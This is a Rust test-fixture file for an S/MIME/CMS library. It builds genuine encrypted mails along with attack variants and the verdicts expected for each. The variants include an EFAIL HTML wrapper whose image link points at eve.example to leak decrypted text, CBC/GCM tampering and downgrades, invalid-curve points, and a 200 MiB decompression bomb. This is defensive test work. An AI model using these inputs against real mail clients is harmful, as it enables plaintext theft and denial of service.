//! F: encryption, with the addressee's key at hand; and the messages by which engines were made to decrypt what they
//! should not, or to tell what they should not.

use std::io::Write as _;

use crate::cms::SignedFactory;
use crate::envelope::{EnvelopeFactory, Takes, compressed, key_transport};
use crate::mail::{Mail, clear_part, opaque_part};
use crate::recipient::{Pieces, sealed as to};
use crate::rsa::{self, unhex};
use crate::{Pki, RawRsa, in_days};
use kakitome_pki::algorithm::Cipher;
use kakitome_pki::asn1::{Oid, oid, tag, write as der};
use kakitome_pki::cert::Certificate;
use kakitome_pki::crypto::DecryptionKey;

use super::Row;

/// A part as it is encrypted when nobody signs.
const PLAIN: &[u8] =
    b"Content-Type: text/plain\r\n\r\nThe bill of this month is attached; please pay until Friday.\r\n";

/// Who reads.
fn reader(takes: Takes) -> Certificate {
    takes.holder("jiro").certificate
}

/// A genuine encrypted object in pieces.
fn in_pieces(takes: Takes, cipher: Cipher, content: &[u8]) -> Pieces {
    let readers = [reader(takes)];
    Pieces::of(&to(&readers, cipher, content), &readers)
}

pub(crate) fn rows() -> Vec<Row> {
    [opened(), weak(), efail(), downgraded(), addressed(), parsing()].into_iter().flatten().collect()
}

/// With the reader's key of this kind.
fn read_by(id: &'static str, takes: Takes, mail: Vec<u8>, state: &'static str, code: &'static str) -> Row {
    Row::new(id, mail, state, code).key(reader(takes), takes.key_der("jiro"))
}

/// Genuine ones.
fn opened() -> Vec<Row> {
    let world = Pki::get();
    let (bank, eve) = (&world.bank, &world.eve);
    let of_bank = Mail::of(bank);
    let signed = clear_part(of_bank.payload(), &SignedFactory::by(bank, of_bank.payload()).der());
    let rsa = |content: &[u8], cipher| to(&[reader(Takes::Rsa)], cipher, content);
    let gcm = |content: &[u8]| rsa(content, Cipher::Aes256Gcm);
    let by_rsa = |id, mail, state, code| read_by(id, Takes::Rsa, mail, state, code).opened();
    let outside = |signer: &crate::Holder, part: &[u8]| {
        let mail = Mail::of(signer).part(part);
        mail.clear(&SignedFactory::by(signer, mail.payload()).der())
    };
    let many: Vec<Certificate> = Takes::ALL.into_iter().map(reader).collect();
    // The same certificate as the sender had it, and after its end.
    let valid = Takes::Rsa.holder_of("ended", |factory| factory.serial(&[0x41, 9]));
    let ended = Takes::Rsa.holder_of("ended", |factory| factory.serial(&[0x41, 9]).valid(in_days(-400), in_days(-1)));
    let to_ended = to(std::slice::from_ref(&valid.certificate), Cipher::Aes256Gcm, &signed);
    vec![
        by_rsa("F02", of_bank.opaque(&gcm(&signed)), "ORG_CONFIRMED", "ok"),
        by_rsa("F02c", of_bank.opaque(&rsa(&signed, Cipher::Aes128Cbc)), "ORG_CONFIRMED", "ok")
            .note("enc.unauthenticated"),
        read_by("F02e", Takes::P256, of_bank.opaque(&to(&many, Cipher::Aes256Gcm, &signed)), "ORG_CONFIRMED", "ok")
            .opened(),
        read_by("F02x", Takes::X25519, of_bank.opaque(&to(&many, Cipher::Aes256Gcm, &signed)), "ORG_CONFIRMED", "ok")
            .opened(),
        by_rsa("F03", of_bank.opaque(&rsa(PLAIN, Cipher::Aes256Cbc)), "NOT_SIGNED", "mime.none")
            .note("enc.unauthenticated"),
        by_rsa("F04", of_bank.opaque(&gcm(PLAIN)), "NOT_SIGNED", "mime.none"),
        // Triple-wrapped (RFC 2634 §1.1): who signed inside wrote it.
        by_rsa("F12t", outside(bank, &opaque_part(&gcm(&signed))), "ORG_CONFIRMED", "ok"),
        by_rsa("F13", of_bank.opaque(&to(&many, Cipher::Aes256Gcm, &signed)), "ORG_CONFIRMED", "ok"),
        // The bank's mail to somebody else, sealed again for this reader: To is not covered, From is right.
        by_rsa("F16", of_bank.clone().field("To", "jiro@reader.example").opaque(&gcm(&signed)), "ORG_CONFIRMED", "ok"),
        Row::new("F18", of_bank.opaque(&to_ended), "ORG_CONFIRMED", "ok")
            .key(ended.certificate, Takes::Rsa.key_der("ended"))
            .opened(),
        by_rsa("F16f", Mail::of(eve).opaque(&gcm(&signed)), "SIGNER_DIFFERS", "bind.none"),
    ]
}

/// [`PLAIN`] as `openssl enc -des-ede3-cbc` encrypts it with this key and sevens for the vector: the library does not
/// encrypt by what can be broken.
const BY_3DES: (&str, &str) = (
    "0123456789abcdef23456789abcdef01456789abcdef0123",
    "84d6b654dba6d508254aa1d39dd35bf02df30a687c6823b0435404b6a025265078ed218622e02950b75f49b4a6fd99245180f5dd24b573e6\
     1682a40650c59b5fc2a4f67264d383cd463f9fa693cf0dadbe3249104e1d0ef7ac0fb96ff01141fd",
);
/// The same by `-rc2-40-cbc`.
const BY_RC2: (&str, &str) = (
    "0123456789",
    "fd9f7b6c320b2c1eb010ffe27bca88384ce45603f8217ce05272e7813e8e2f7800c9e14e3131a60a7946f5d589696fb532ea00649b6ec0df\
     67f992990c5b97062539aa3da99266c5865cf7424ee776f6542813c13a8d59ff89dc8f6fc0902ab1",
);

/// What others could open today, too: it is opened, and said.
fn weak() -> Vec<Row> {
    let base = Mail::of(&Pki::get().bank);
    let iv = [7; 8];
    let sealed = |(key, content): (&str, &str), algorithm: Vec<u8>| {
        let key = RawRsa::encrypting(reader(Takes::Rsa).spki()).encrypt(&unhex(key));
        let factory =
            EnvelopeFactory::new(oid::ENVELOPED_DATA).recipient(key_transport(&reader(Takes::Rsa), None, &key));
        base.opaque(&factory.algorithm(algorithm).content(Some(&unhex(content))).der())
    };
    // RFC 3370 §5.2: 160 stands for 40 bits.
    let rc2 = der::sequence(&[&der::unsigned(&[160]), &der::octet_string(&iv)]);
    let rc2 = der::sequence(&[&der::oid(&oid::RC2_CBC), &rc2]);
    let unsigned = |id, mail| read_by(id, Takes::Rsa, mail, "NOT_SIGNED", "mime.none").sealed("weak").note("enc.weak");
    let short_key = rsa::made_der("short", 1024);
    let short_spki = DecryptionKey::from_der(&short_key).expect("a key that decrypts").spki().to_vec();
    let short = Takes::Rsa.holder_of("jiro", |factory| factory.spki(&short_spki));
    let to_short =
        Pieces::of(&to(&[reader(Takes::Rsa)], Cipher::Aes256Gcm, PLAIN), std::slice::from_ref(&short.certificate));
    vec![
        unsigned("F06", sealed(BY_3DES, cbc(oid::DES_EDE3_CBC, &iv))),
        unsigned("F06r", sealed(BY_RC2, rc2)),
        Row::new("F07", base.opaque(&to_short.whole().der()), "NOT_SIGNED", "mime.none")
            .key(short.certificate, short_key)
            .sealed("weak")
            .note("enc.weak-key"),
    ]
}

/// Attack 19: EFAIL, and the reply oracle.
fn efail() -> Vec<Row> {
    let world = Pki::get();
    let (bank, eve) = (&world.bank, &world.eve);
    let of_bank = Mail::of(bank);
    let by_rsa = |id, mail, state, code| read_by(id, Takes::Rsa, mail, state, code).opened();
    let sealed = opaque_part(&to(&[reader(Takes::Rsa)], Cipher::Aes256Cbc, PLAIN));
    let around = |before: &str, after: &str| {
        let html = |text: &str| format!("--mix\r\nContent-Type: text/html\r\n\r\n{text}\r\n");
        let head = "Content-Type: multipart/mixed; boundary=\"mix\"\r\n\r\n".to_owned() + &html(before) + "--mix\r\n";
        [head.as_bytes(), &sealed, format!("\r\n{}--mix--\r\n", html(after)).as_bytes()].concat()
    };
    let signed = clear_part(of_bank.payload(), &SignedFactory::by(bank, of_bank.payload()).der());
    let pieces = in_pieces(Takes::Rsa, Cipher::Aes256Cbc, &signed);
    let plain = in_pieces(Takes::Rsa, Cipher::Aes256Cbc, PLAIN);
    // A gadget: the block with the changed octet turns to noise, and in the one behind it the same octet is changed.
    let text = signed.windows(6).position(|window| window == "今月".as_bytes()).unwrap();
    let inside = pieces.encrypted.len() - text;
    vec![
        by_rsa("F08", of_bank.around(&around("<img src=\"http://eve.example/", "\">")), "NOT_SIGNED", "mime.none")
            .sealed("part"),
        by_rsa("F09", of_bank.opaque(&plain.flipped(plain.encrypted.len() - 20).der()), "NOT_SIGNED", "mime.none")
            .note("enc.unauthenticated"),
        by_rsa("F09s", of_bank.opaque(&pieces.flipped(inside).der()), "ALTERED", "cms.digest"),
        by_rsa("F10", Mail::of(eve).part(around("see below", "bye")).clear_by(eve), "MAILBOX_CONFIRMED", "ok")
            .sealed("part"),
        by_rsa("F17", of_bank.around(&around("see the attachment", "bye")), "NOT_SIGNED", "mime.none").sealed("part"),
    ]
}

fn gcm(nonce: usize, tag: u8) -> Vec<u8> {
    let parameters = der::sequence(&[&der::octet_string(&vec![7; nonce]), &der::unsigned(&[tag])]);
    der::sequence(&[&der::oid(&oid::AES256_GCM), &parameters])
}

fn cbc(kind: Oid, iv: &[u8]) -> Vec<u8> {
    der::sequence(&[&der::oid(&kind), &der::octet_string(iv)])
}

/// Attacks 20 to 24, 26, 31: the content encryption is not what it says, or says what nobody should do.
fn downgraded() -> Vec<Row> {
    let base = Mail::of(&Pki::get().bank);
    let row = |id, factory: EnvelopeFactory, code| read_by(id, Takes::Rsa, base.opaque(&factory.der()), "SEALED", code);
    let sealed = in_pieces(Takes::Rsa, Cipher::Aes256Gcm, PLAIN);
    let plain = in_pieces(Takes::Rsa, Cipher::Aes256Cbc, PLAIN);
    // The parameters of a genuine object with a shorter tag: its own nonce, and the tag's first octets.
    let shorter = |length: u8| {
        let mut algorithm = sealed.algorithm.clone();
        *algorithm.last_mut().unwrap() = length;
        sealed.whole().algorithm(algorithm).mac(&sealed.mac[..usize::from(length)])
    };
    let nonce = sealed.algorithm.windows(2).position(|pair| pair == [4, 12]).unwrap() + 2;
    let counter = [&sealed.algorithm[nonce..nonce + 12], &[0, 0, 0, 2]].concat();
    let as_cbc = EnvelopeFactory::new(oid::ENVELOPED_DATA).recipient(sealed.infos[0].clone());
    let whole_blocks = sealed.encrypted.len() / 16 * 16;
    let mut wrong_mac = sealed.mac.clone();
    wrong_mac[15] ^= 1;
    vec![
        row("F20a", shorter(1), "enc.refused"),
        row("F20b", shorter(4), "enc.refused"),
        row("F20c", shorter(11), "enc.refused"),
        row("F20d", sealed.whole().mac(&sealed.mac[..12]), "enc.refused"),
        row("F20e", sealed.whole().mac(&[]), "enc.refused"),
        row("F05", sealed.whole().mac(&wrong_mac), "enc.failed"),
        row("F05c", sealed.flipped(10), "enc.failed"),
        row("F21", sealed.whole().algorithm(cbc(oid::AES256_CBC, &[7; 16])), "enc.refused"),
        row("F21g", plain.whole().algorithm(gcm(12, 16)), "enc.refused"),
        row(
            "F22",
            as_cbc.clone().algorithm(cbc(oid::AES256_CBC, &counter)).content(Some(&sealed.encrypted[..whole_blocks])),
            "enc.failed",
        ),
        row("F22g", as_cbc.algorithm(sealed.algorithm.clone()).content(Some(&sealed.encrypted)), "enc.refused"),
        row("F23", sealed.whole().algorithm(gcm(4000, 16)), "enc.refused"),
        row("F23z", sealed.whole().algorithm(gcm(0, 16)), "enc.refused"),
        row("F23i", plain.whole().algorithm(cbc(oid::AES256_CBC, &[7; 32])), "enc.refused"),
        row("F26", plain.flipped(17), "enc.failed"),
        row("F26l", plain.flipped(1), "enc.failed"),
        row("F31", plain.whole().content(None), "enc.refused"),
        row("F31e", plain.whole().content(Some(&[])), "enc.refused"),
        row("F31c", plain.whole().content(Some(&plain.encrypted[..plain.encrypted.len() - 1])), "enc.refused"),
        row("F31g", sealed.whole().content(None), "enc.refused"),
    ]
}

/// Attacks 25, 27 to 30: recipient infos.
fn addressed() -> Vec<Row> {
    let base = Mail::of(&Pki::get().bank);
    let row =
        |id, takes, factory: EnvelopeFactory, code| read_by(id, takes, base.opaque(&factory.der()), "SEALED", code);
    let rsa = in_pieces(Takes::Rsa, Cipher::Aes256Gcm, PLAIN);
    let p256 = in_pieces(Takes::P256, Cipher::Aes256Gcm, PLAIN);
    let x25519 = in_pieces(Takes::X25519, Cipher::Aes256Gcm, PLAIN);
    let transport = |key: &[u8]| key_transport(&reader(Takes::Rsa), None, key);
    // The originator's point: an uncompressed one of P-256, and 32 octets of X25519.
    let replaced = |info: &[u8], from: usize, octets: &[u8]| {
        let mut info = info.to_vec();
        info[from..from + octets.len()].copy_from_slice(octets);
        info
    };
    let point = p256.infos[0].windows(3).position(|window| window == [0x42, 0, 4]).unwrap() + 3;
    let small = x25519.infos[0].windows(3).position(|window| window == [3, 0x21, 0]).unwrap() + 3;
    let wrapped = p256.infos[0].len() - 1;
    let other = |kind, value: Vec<u8>| der::element(0xa4, &[&der::oid(&kind), &value]);
    let rounds = |rounds: &[u8]| {
        let parameters = der::sequence(&[&der::octet_string(b"saltsalt"), &der::unsigned(rounds)]);
        let derivation = der::element(0xa0, &[&der::oid(&oid::PBKDF2), &parameters]);
        let wrap = der::sequence(&[&der::oid(&oid::PWRI_KEK), &cbc(oid::AES256_CBC, &[7; 16])]);
        der::element(0xa3, &[&der::unsigned(&[0]), &derivation, &wrap, &der::octet_string(&[1; 48])])
    };
    vec![
        // The padding of PKCS#1 v1.5 is wrong: nothing tells it from a wrong tag.
        row("F14", Takes::Rsa, rsa.around(&transport(&[1; 256])), "enc.failed"),
        row("F14z", Takes::Rsa, rsa.around(&transport(&[0; 256])), "enc.failed"),
        // Two recipient infos name the same certificate: the first alone is tried.
        row("F25", Takes::Rsa, rsa.around(&transport(&[1; 256])).recipient(rsa.infos[0].clone()), "enc.failed"),
        row("F27", Takes::Rsa, rsa.around(&rounds(&[0x7f, 0xff, 0xff, 0xff])), "enc.cannot-open"),
        // A point that is not on the curve, and one of small order.
        row("F28c", Takes::P256, p256.around(&replaced(&p256.infos[0], point, &[5; 64])), "enc.failed"),
        row("F28s", Takes::X25519, x25519.around(&replaced(&x25519.infos[0], small, &[0; 32])), "enc.failed"),
        row(
            "F28w",
            Takes::P256,
            p256.around(&replaced(&p256.infos[0], wrapped, &[p256.infos[0][wrapped] ^ 1])),
            "enc.failed",
        ),
        row("F29", Takes::Rsa, rsa.around(&transport(&[1; 8192])), "enc.refused"),
        row("F29e", Takes::Rsa, rsa.around(&transport(&[])), "enc.failed"),
        row("F30", Takes::Rsa, rsa.around(&other(oid::DATA, der::octet_string(&[1; 4000]))), "enc.cannot-open"),
        // KEMRecipientInfo (RFC 9629) with ciphertext of no length that the algorithm has.
        row("F15", Takes::Rsa, rsa.around(&other(oid::KEM_RECIPIENT_INFO, der::sequence(&[]))), "enc.cannot-open"),
        row("F30e", Takes::Rsa, rsa.around(&other(oid::DATA, Vec::new())), "enc.cannot-open"),
    ]
}

/// Attacks 33 to 38, 41: what costs time or memory before anything is known about it.
fn parsing() -> Vec<Row> {
    let bank = &Pki::get().bank;
    let base = Mail::of(bank);
    let row = |id, object: &[u8], state, code| read_by(id, Takes::Rsa, base.opaque(object), state, code);
    let deflated = |content: &[u8]| {
        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
        encoder.write_all(content).unwrap();
        encoder.finish().unwrap()
    };
    let signed = clear_part(base.payload(), &SignedFactory::by(bank, base.payload()).der());
    let bomb = {
        let mut encoder = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
        let zeros = vec![0; 1 << 20];
        (0..200).for_each(|_| encoder.write_all(&zeros).unwrap());
        encoder.finish().unwrap()
    };
    // Twenty objects inside one another.
    let deep = (0..20).fold(signed.clone(), |inner, _| opaque_part(&SignedFactory::by(bank, &inner).embedded().der()));
    // A length of 2 GiB and one of almost 2^64, with nothing behind them.
    let declares = |length: &[u8]| {
        [&[tag::SEQUENCE, 0x80][..], &der::oid(&oid::SIGNED_DATA), &[0xa0, 0x80, tag::SEQUENCE], length].concat()
    };
    vec![
        row("F26z", &compressed(oid::DATA, &deflated(&signed)), "ORG_CONFIRMED", "ok"),
        row("F41", &compressed(oid::DATA, &bomb), "AMBIGUOUS", "limit.compressed"),
        row(
            "F41n",
            &compressed(oid::DATA, &deflated(&opaque_part(&compressed(oid::DATA, &bomb)))),
            "AMBIGUOUS",
            "limit.compressed",
        ),
        row("F41c", &compressed(oid::DATA, &deflated(&signed)[..200]), "AMBIGUOUS", "cms.compressed"),
        Row::new("F33", Mail::of(bank).around(&deep), "ORG_CONFIRMED", "ok"),
        row("F35", &declares(&[0x84, 0x7f, 0xff, 0xff, 0xff]), "AMBIGUOUS", "cms.parse"),
        row("F35h", &declares(&[0x88, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xf0]), "AMBIGUOUS", "cms.parse"),
    ]
}
